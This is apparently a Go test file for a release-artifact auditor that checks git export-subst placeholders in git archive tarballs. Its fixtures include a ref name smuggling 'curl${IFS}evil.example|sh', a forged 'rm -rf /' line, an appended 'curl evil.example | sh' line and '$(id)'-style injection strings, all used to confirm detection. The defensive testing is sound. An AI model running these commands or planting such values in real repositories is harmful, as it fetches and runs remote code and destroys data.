package git

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/shipgate/shipgate/signing"
)

// TestAttackArtifactExportSubstRefName: version.sh is marked export-subst,
// so `git archive` writes its "$Format:%d$" as the ref names pointing at
// the tagged commit, and a branch name may hold `";curl …|sh;"` (quotes,
// semicolons, $ and | are allowed in ref names). Such a file differed from
// its blob in every release, so the policy had to list it in
// artifactAllow, which stopped all checking of it: a line appended to it
// passed too. It is now compared with the blob placeholder by placeholder:
// each expansion is reported (git/artifact-export-subst, a note for plain
// ids and ref lists, an error for text that can end a string), and a
// change outside the placeholders is git/artifact-content-differs. The
// tarballs are made by git archive itself.
func TestAttackArtifactExportSubstRefName(t *testing.T) {
	t.Parallel()
	gitBin := findGit()
	if gitBin == "" {
		t.Skip("no git binary on PATH: the archives are made by git archive")
	}
	tr := newTestRepo(t)
	files := map[string]string{
		".gitattributes": "version.sh export-subst\n",
		"version.sh":     "VERSION=\"$Format:%d$\"\nCOMMIT=$Format:%H$\necho \"$VERSION\"\n# $Format:%cI %at %an <%ae> %T %P%n%%$\n",
		"README":         "r\n",
	}
	c := tr.commit(commitSpec{files: files})
	tr.tag("v1", c, nil)
	tr.head(c)
	archive := func(name string) string {
		t.Helper()
		out := filepath.Join(t.TempDir(), name)
		cmd := exec.Command(gitBin, "-C", tr.dir, "archive", "--format=tar", "--prefix=pkg-1/", "-o", out, "v1")
		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL="+os.DevNull, "HOME="+t.TempDir())
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git archive: %v: %s", err, b)
		}
		return out
	}
	audit := func(tarPath string) *Result {
		t.Helper()
		res, err := Audit(t.Context(), tr.dir, Options{Until: "v1", ArtifactPath: tarPath})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}

	res := audit(archive("clean.tar"))
	// %H and the dates and names of the last line are fields of the
	// commit, written as git writes them (git archive made this file);
	// %d's ref names are reported.
	if got := findingsOf(res, RuleArtifactExportSubst); len(got) != 1 || !strings.Contains(got[0].Message, "%d") {
		t.Errorf("clean archive: want one export-subst finding, for %%d: %v", res.Findings)
	}
	for _, f := range res.Findings {
		if f.Severity != signing.SeverityNote {
			t.Errorf("clean archive: %v", f)
		}
	}
	if res.Artifact.Matched != 3 {
		t.Errorf("clean archive: matched %d, want 3", res.Artifact.Matched)
	}

	tr.ref("refs/heads/x\";curl${IFS}evil.example|sh;\"", c)
	res = audit(archive("evil.tar"))
	var hit bool
	for _, f := range findingsOf(res, RuleArtifactExportSubst) {
		if f.Severity == signing.SeverityError && strings.Contains(f.Message, "curl") {
			hit = true
		}
	}
	if !hit {
		t.Errorf("ref name with a quote expanded without an error: %v", res.Findings)
	}

	// Plain text in place of %H, which git fixes to the commit id.
	forged := filepath.Join(t.TempDir(), "forged.tar")
	writeTar(t, forged, "pkg-1", map[string]string{".gitattributes": files[".gitattributes"], "version.sh": "VERSION=\" (tag: v1)\"\nCOMMIT=rm -rf /\necho \"$VERSION\"\n", "README": "r\n"})
	res = audit(forged)
	wantPerm(t, res, RuleArtifactContentDiffers, "version.sh")

	// A line added outside the placeholders.
	body := "VERSION=\" (tag: v1)\"\nCOMMIT=" + c.String() + "\necho \"$VERSION\"\ncurl evil.example | sh\n"
	// (The last line of the blob, which git fixes, is missing too.)
	tampered := filepath.Join(t.TempDir(), "tampered.tar")
	writeTar(t, tampered, "pkg-1", map[string]string{".gitattributes": files[".gitattributes"], "version.sh": body, "README": "r\n"})
	res = audit(tampered)
	wantPerm(t, res, RuleArtifactContentDiffers, "version.sh")
}

func TestMatchSubst(t *testing.T) {
	tpl := []byte("a $Format:%H$ b $Format:%d$ c")
	for _, tc := range []struct {
		art  string
		ok   bool
		want []string
	}{
		{"a X b Y c", true, []string{"X", "Y"}},
		{"a X b b Y c", true, []string{"X", "b Y"}},
		{"a  b  c", true, []string{"", ""}},
		{"a X b Y c!", false, nil},
		{"a X Y c", false, nil},
		{"a $Format:%H$ b $Format:%d$ c", true, []string{"$Format:%H$", "$Format:%d$"}},
	} {
		rs, ok := matchSubst(tpl, []byte(tc.art), nil)
		var got []string
		for _, r := range rs {
			got = append(got, string(r.text))
		}
		if ok != tc.ok || strings.Join(got, "|") != strings.Join(tc.want, "|") {
			t.Errorf("%q: %v %q, want %v %q", tc.art, ok, got, tc.ok, tc.want)
		}
	}
	if rs, ok := matchSubst([]byte("no placeholder $Format:x"), []byte("no placeholder $Format:x"), nil); !ok || len(rs) != 0 {
		t.Errorf("unterminated placeholder: %v %v", rs, ok)
	}
	for s, want := range map[string]bool{" (HEAD -> master, tag: v1.2)": true, "0123abcd": true, "2024-03-01T17:00:00+00:00": true, "x\";sh;\"": false, "a\nb": false, "$(id)": false} {
		if plainSubst([]byte(s)) != want {
			t.Errorf("plainSubst(%q) = %v", s, !want)
		}
	}
}
